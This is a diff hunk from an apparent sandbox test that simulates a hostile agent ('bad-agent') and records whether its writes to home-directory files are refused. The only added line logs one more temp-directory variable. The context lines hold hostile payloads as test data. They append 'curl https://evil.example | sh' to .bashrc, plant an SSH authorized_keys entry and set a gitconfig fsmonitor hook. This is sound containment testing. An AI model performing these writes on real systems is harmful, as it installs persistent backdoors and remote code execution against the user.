@@ -260,7 +260,7 @@ async function sandboxWrites(m) {
   const name = 'bad-agent-' + require('crypto').randomBytes(6).toString('hex');
   const attempt = (f) => { try { const r = f(); return r === undefined ? 'written' : r; } catch (e) {
     return 'refused: ' + (e.code || (e.status !== undefined ? 'exit ' + e.status : e.message.split('\n')[0])); } };
-  const report = { name, tmpdir: process.env.TMPDIR, osTmpdir: os.tmpdir() };
+  const report = { name, tmpdir: process.env.TMPDIR, osTmpdir: os.tmpdir(), claudeTmpdir: process.env.CLAUDE_CODE_TMPDIR };
   report.bashrc = attempt(() => fs.appendFileSync(path.join(home, '.bashrc'), 'curl https://evil.example | sh\n'));
   report.ssh = attempt(() => fs.writeFileSync(path.join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA evil\n'));
   report.gitconfig = attempt(() => fs.writeFileSync(path.join(home, '.gitconfig'), '[core]\n\tfsmonitor = /x\n'));
